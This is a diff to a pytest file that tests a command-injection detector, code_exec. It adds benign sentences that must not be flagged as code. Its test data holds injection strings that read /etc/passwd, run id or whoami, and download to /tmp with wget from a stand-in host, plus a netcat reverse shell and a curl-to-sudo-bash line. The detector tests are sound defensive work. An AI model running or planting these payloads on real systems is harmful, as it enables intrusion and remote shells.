@@ -403,7 +403,7 @@ def test_table_rows_and_query_strings_are_not_chained_commands(text: str) -> Non
 
 
 @pytest.mark.parametrize("text", [
-    "8.8.8.8 -c 1; id", "Bob Smith; cat /etc/passwd", "a b; wget http://e.example/x -O /tmp/x", "a b c & whoami",
+    "8.8.8.8 -c 1; id", "Bob Smith; cat /etc/passwd", "a b; wget http://e.example/x -O /tmp/x", "a b c1 & whoami",
     "Bob Smith && /usr/bin/id",
 ])  # fmt: skip
 def test_a_command_chained_after_several_words_that_ends_the_value_or_reads_a_secret_is_code(text: str) -> None:
@@ -427,6 +427,20 @@ def test_a_command_after_or_with_options_a_redirection_or_ifs_or_after_a_value_w
     """``||`` with blanks around it, an option or a redirection after id, whoami or uname, ``<`` or ``${IFS}`` before
     cat's path, a value with options (``8.8.8.8 -c 1``) or blank lines before a command on a line of its own."""
     assert code_exec(text)
+
+
+@pytest.mark.parametrize("text", [
+    "It prints the name & id", "Steps: log in; id", "Profile: Bob Smith; id", "Done with the migration; whoami",
+    "Build step failed; wget https://mirror.example.com/node.tar.gz -O /tmp/node.tar.gz returned 404",
+    "I checked the permissions; cat /etc/passwd lists the deploy user, so it exists",
+])  # fmt: skip
+def test_a_command_name_after_a_word_or_a_command_line_a_sentence_goes_on_from_is_not_code(text: str) -> None:
+    """After several words, id, whoami or uname counted whatever came before the separator, and a read of
+    /etc/passwd or a download to /tmp whatever came after; they count after a value that does not end in a word of
+    letters, and a command line counts when it ends the line."""
+    assert not code_exec(text)
+    assert code_exec(text.replace(" & id", "1 & id").replace(" in; id", " in1; id").replace("Smith; id", "Smith1; id")
+                     .replace("migration;", "migration/;").split(" returned")[0].split(" lists")[0])
 
 
 @pytest.mark.parametrize("text", ["nc.traditional 10.0.0.1 4444 -e /bin/sh", "curl http://x.example/a | sudo -u root bash"])
